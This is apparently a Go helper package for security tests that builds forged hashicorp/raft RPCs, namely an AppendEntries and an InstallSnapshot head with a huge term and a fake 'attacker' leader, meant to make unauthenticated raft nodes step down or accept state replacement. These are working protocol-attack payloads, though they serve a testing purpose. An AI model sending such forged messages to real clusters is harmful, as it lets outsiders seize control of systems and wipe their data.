// Package forge crafts the messages an attacker sends, for the tests that attack running
// clusters: bytes an outsider needs no key to produce.
package forge

import "github.com/vmihailenco/msgpack/v5"

// Term is the term the forged Raft RPCs claim: far above any real cluster's.
const Term = 1_000_000

// raftRPC encodes one RPC the way hashicorp/raft's network transport reads it from a connection:
// a type byte, then the msgpack request.
func raftRPC(typ byte, req map[string]any) []byte {
	b, err := msgpack.Marshal(req)
	if err != nil {
		panic("forge: " + err.Error()) // plain maps of integers and bytes always encode
	}
	return append([]byte{typ}, b...)
}

func header() map[string]any {
	return map[string]any{"ProtocolVersion": 3, "ID": []byte("attacker"), "Addr": []byte("203.0.113.9:7001")}
}

// RaftAppendEntries is an AppendEntries RPC with term Term: a plain-TCP raft node that reads it
// takes the term and steps down to follow "attacker".
func RaftAppendEntries() []byte {
	return raftRPC(0, map[string]any{"RPCHeader": header(), "Term": uint64(Term),
		"Leader": []byte("203.0.113.9:7001"), "PrevLogEntry": uint64(0), "PrevLogTerm": uint64(0), "LeaderCommitIndex": uint64(0)})
}

// RaftInstallSnapshot is the head of an InstallSnapshot RPC with term Term, announcing a
// snapshot that would replace the receiver's whole state.
func RaftInstallSnapshot() []byte {
	return raftRPC(2, map[string]any{"RPCHeader": header(), "SnapshotVersion": 1, "Term": uint64(Term),
		"Leader": []byte("203.0.113.9:7001"), "LastLogIndex": uint64(1 << 40), "LastLogTerm": uint64(Term),
		"Size": int64(16), "ConfigurationIndex": uint64(1), "Configuration": []byte{}})
}
